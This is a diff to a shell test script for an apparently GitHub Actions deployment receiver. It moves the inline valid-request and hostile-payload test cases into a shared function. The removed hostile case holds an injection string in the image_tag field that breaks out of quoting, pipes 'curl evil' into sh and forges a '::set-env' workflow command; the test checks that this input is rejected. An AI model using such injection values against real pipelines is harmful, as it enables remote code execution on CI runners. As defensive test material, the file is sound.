@@ -223,38 +223,8 @@ receive() { # receive CASE EVENT_FILE: the receiving step for that event
     printf '%s\n' "$deploy_schema" >"$run/workspace/$schema_path"
     run_prepared "$1"
 }
-holds_exactly() { # holds_exactly FILE JSON ("payload": true stands for any payload)
-    python3 "$container/check.py" outputs "$1" >"$1.json" || return 1
-    python3 - "$1.json" "$2" <<'PY'
-import json, sys
-got, want = json.load(open(sys.argv[1])), json.loads(sys.argv[2])
-if want.get("payload") is True and "payload" in got:
-    want["payload"] = got["payload"]
-if got != want:
-    sys.exit(f"  holds {got!r}, expected {want!r}")
-PY
-}
-nothing_written() { test ! -s "$outputs_file" && test ! -s "$env_file"; }
-
-step "case: receive a valid deployment request"
-dispatch_as receive-send '{"image_tag": "sha-0123abc", "environment": "staging"}' "$tmp/deploy-event.json"
-receive receive-valid "$tmp/deploy-event.json"
-check "receive: exit code 0" test "$rc" -eq 0
-check "receive: no ::error line" no_error_line
-check "receive: the outputs are image_tag, environment and payload" \
-    holds_exactly "$outputs_file" '{"image_tag": "sha-0123abc", "environment": "staging", "payload": true}'
-check "receive: GITHUB_ENV holds DEPLOY_IMAGE_TAG and DEPLOY_ENVIRONMENT only" \
-    holds_exactly "$env_file" '{"DEPLOY_IMAGE_TAG": "sha-0123abc", "DEPLOY_ENVIRONMENT": "staging"}'
-check "receive: no request to the API" no_new_requests "$receive_before"
-
-step "case: receive a hostile payload (refused)"
-dispatch_as receive-send-hostile '{"image_tag": "x\"; curl evil | sh #\n::set-env name=X::y", "environment": "staging"}' \
-    "$tmp/hostile-event.json"
-receive receive-hostile "$tmp/hostile-event.json"
-check "receive-hostile: exit code 1" test "$rc" -eq 1
-check "receive-hostile: an ::error names /image_tag" grep -q '^::error.*/image_tag' "$run/stdout"
-check "receive-hostile: nothing written to GITHUB_OUTPUT or GITHUB_ENV" nothing_written
-check "receive-hostile: no request to the API" no_new_requests "$receive_before"
+# shellcheck disable=SC2119 # the Windows stage adds no check to the valid case
+receive_cases
 
 # --- the unit tests ----------------------------------------------------------------
 # Skipped: the tests that make RSA keys by running `openssl`, which wine's
